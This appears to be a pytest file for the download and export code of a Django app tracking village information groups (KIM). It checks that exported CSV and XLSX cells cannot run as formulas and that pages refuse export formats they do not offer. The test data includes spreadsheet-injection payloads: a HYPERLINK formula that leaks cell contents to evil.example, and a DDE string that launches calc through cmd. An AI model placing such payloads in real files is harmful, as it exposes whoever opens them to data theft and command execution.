"""``kimtracker.downloads``: one content type per kind of file, the download response, no cell of
a CSV or XLSX file a formula, and only the formats a page offers."""

import csv
import datetime
import io
import json
import re

import openpyxl
import pytest

from kimtracker.downloads import CONTENT_TYPES, attachment, spreadsheet_cell
from villages import services
from villages.choices import KIMLevel
from villages.models import Desa


@pytest.mark.parametrize("kind", sorted(CONTENT_TYPES))
def test_attachment(kind):
    response = attachment(b"x", f"laporan.{kind}", kind)
    assert response["Content-Type"] == CONTENT_TYPES[kind]
    assert response["Content-Disposition"] == f'attachment; filename="laporan.{kind}"'
    assert response.content == b"x"


# --- No cell of a CSV or XLSX is a formula (issue 13, finding 1) -------------------------------

# Names a Petugas registered in the probe: each would run as a formula in a spreadsheet.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        *[(formula, f"'{formula}") for formula in FORMULAS],
        ("\tHALO", "'\tHALO"),
        ("\r=1", "'\r=1"),
        ("KIM Sumberputih", "KIM Sumberputih"),
        ("", ""),
        ("-5", "-5"),
        ("+6281234567890", "+6281234567890"),
        ("-1.5", "-1.5"),
        (-5, -5),
        (55.1, 55.1),
        (None, None),
        (datetime.date(2023, 6, 30), datetime.date(2023, 6, 30)),
    ],
)
def test_spreadsheet_cell(value, cell):
    assert spreadsheet_cell(value) == cell


def _text_cells(kind: str, content: bytes) -> list[str]:
    """Every text cell of a CSV or XLSX file."""
    if kind == "csv":
        return [
            cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row
        ]
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) or cell.data_type == "f"
    ]


@pytest.fixture
def formula_kims(malang, user):
    """A KIM named after each formula, formed in June 2023, one with a status note and one
    voided with a reason that are formulas too."""
    desas = list(Desa.objects.order_by("code")[: len(FORMULAS)])
    kims = [
        services.register_kim(desa=desa, name=name, formed_on=datetime.date(2023, 6, 10), by=user)
        for desa, name in zip(desas, FORMULAS, strict=True)
    ]
    services.record_status_change(
        kim=kims[0],
        effective_on=datetime.date(2023, 6, 20),
        level=KIMLevel.BERKEMBANG,
        note="=1+1",
        by=user,
    )
    services.void_kim(kim=kims[1], reason="@SUM(1+1)", by=user)
    return kims


def test_no_exported_cell_is_a_formula(client, manajer, formula_kims):
    client.force_login(manajer)
    month = {"tanggal": "2023-06-30"}
    files = {
        "kim list": ("csv", "/kim/", {**month, "_export": "csv"}),
        "audit log": ("csv", "/audit/", {"_export": "csv"}),
        "open data": ("csv", "/laporan/data-terbuka/kim.csv", month),
        "monthly csv": ("csv", "/laporan/bulanan/2023-06/", {"format": "csv"}),
        "monthly xlsx": ("xlsx", "/laporan/bulanan/2023-06/", {"format": "xlsx"}),
        "follow-up xlsx": ("xlsx", "/tindak-lanjut/", {"format": "xlsx"}),
        "kim template csv": ("csv", "/kim/impor/templat.csv", {}),
        "kim template xlsx": ("xlsx", "/kim/impor/templat.xlsx", {}),
        "activity template xlsx": ("xlsx", "/kim/kegiatan/impor/templat.xlsx", {}),
    }
    seen = {}
    for name, (kind, url, params) in files.items():
        response = client.get(url, params)
        assert response.status_code == 200, name
        cells = _text_cells(kind, response.content)
        formulas = [cell for cell in cells if spreadsheet_cell(cell) != cell]
        assert not formulas, (name, formulas)
        seen[name] = set(cells)
    # The names are there, as typed after the apostrophe.
    quoted = {f"'{formula}" for formula in FORMULAS}
    assert quoted - {f"'{FORMULAS[1]}"} <= seen["kim list"]  # the voided one is not listed
    assert quoted - {f"'{FORMULAS[1]}"} <= seen["open data"]
    assert "'=1+1" in seen["audit log"]
    assert "'=1+1" in seen["monthly xlsx"]
    assert f"'{FORMULAS[0]}" in seen["monthly xlsx"]
    assert f"'{FORMULAS[0]}" in seen["follow-up xlsx"]


def test_json_keeps_values_as_typed(client, manajer, formula_kims):
    client.force_login(manajer)
    response = client.get("/laporan/data-terbuka/kim.json", {"tanggal": "2023-06-30"})
    names = {kim["nama_kim"] for kim in json.loads(response.content)["kim"]}
    assert names == set(FORMULAS) - {FORMULAS[1]}


# --- Only the formats a page offers (issue 13, finding 2) --------------------------------------

NOT_OFFERED = ["xlsx", "json", "tsv", "latex", "yaml", "ods", "xls", "html"]


@pytest.mark.parametrize("url", ["/kim/", "/kecamatan/", "/desa/", "/desa/tanpa-kim/", "/audit/"])
def test_lists_serve_only_csv(client, manajer, staf, formula_kims, url):
    client.force_login(manajer if url == "/audit/" else staf)
    for kind in NOT_OFFERED:
        response = client.get(url, {"_export": kind})
        assert response.status_code == 400, (url, kind)
        assert "Format" in response.content.decode()
        assert "tidak tersedia" in response.content.decode()
    response = client.get(url, {"_export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")


def test_files_serve_only_what_the_page_offers(client, manajer, formula_kims):
    client.force_login(manajer)
    refused = [
        ("/laporan/bulanan/2023-06/", {"format": "yaml"}),
        ("/laporan/bulanan/2023-06/", {"format": "json"}),
        ("/tindak-lanjut/", {"format": "csv"}),
        ("/tindak-lanjut/", {"format": "pdf"}),
        ("/laporan/data-terbuka/kim.xlsx", {}),
        ("/laporan/data-terbuka/kim.yaml", {}),
        ("/kim/impor/templat.ods", {}),
        ("/kim/kegiatan/impor/templat.json", {}),
    ]
    for url, params in refused:
        response = client.get(url, params)
        assert response.status_code == 400, (url, params)
        assert "tidak tersedia" in response.content.decode()
    served = [
        ("/laporan/bulanan/2023-06/", {"format": "csv"}),
        ("/tindak-lanjut/", {"format": "xlsx"}),
        ("/laporan/data-terbuka/kim.json", {}),
        ("/kim/impor/templat.csv", {}),
    ]
    for url, params in served:
        assert client.get(url, params).status_code == 200, (url, params)


# --- File names say what was filtered (issue 15, walk-through) --------------------------------


def _filename(response) -> str:
    return response["Content-Disposition"].split('filename="')[1].rstrip('"')


def test_csv_names_say_what_was_filtered(staff_client, malang):
    day = "2026-11-30"
    kasembon = staff_client.get(
        "/desa/tanpa-kim/", {"tanggal": day, "kecamatan": "35.07.28", "_export": "csv"}
    )
    assert _filename(kasembon) == f"desa-tanpa-kim-kasembon-{day}.csv"
    assert _filename(staff_client.get("/desa/", {"tanggal": day, "_export": "csv"})) == (
        f"desa-{day}.csv"
    )
    several = staff_client.get(
        "/desa/",
        {"tanggal": day, "kind": "kelurahan", "tercakup": "tidak", "q": "Sari", "_export": "csv"},
    )
    assert _filename(several) == f"desa-sari-kelurahan-tercakup-tidak-{day}.csv"
    kim = staff_client.get("/kim/", {"tanggal": day, "aktif": "ya", "_export": "csv"})
    assert _filename(kim) == f"kim-aktif-ya-{day}.csv"


def test_kecamatan_page_offers_the_csv_of_its_desa(staff_client, malang):
    page = staff_client.get("/kecamatan/35.07.28/", {"tanggal": "2026-11-30"}).content.decode()
    link = re.search(r'href="([^"]+)" data-export="csv"', page).group(1).replace("&amp;", "&")
    response = staff_client.get(link)
    assert response.status_code == 200
    assert _filename(response) == "desa-kasembon-2026-11-30.csv"
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == Desa.objects.filter(kecamatan__code="35.07.28").count()
    assert {row["Kecamatan"] for row in rows} == {"Kasembon"}
